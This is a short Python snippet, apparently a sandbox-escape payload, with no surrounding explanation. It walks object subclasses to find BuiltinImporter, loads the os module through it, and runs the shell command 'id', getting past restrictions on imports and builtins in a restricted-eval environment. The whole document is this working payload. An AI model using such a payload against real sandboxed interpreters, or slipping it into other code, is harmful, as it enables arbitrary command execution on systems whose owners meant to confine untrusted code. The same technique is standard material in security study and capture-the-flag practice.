for k in type.__subclasses__(object):
    if "BuiltinImporter" in k.__name__:
        k.load_module("os").system("id")
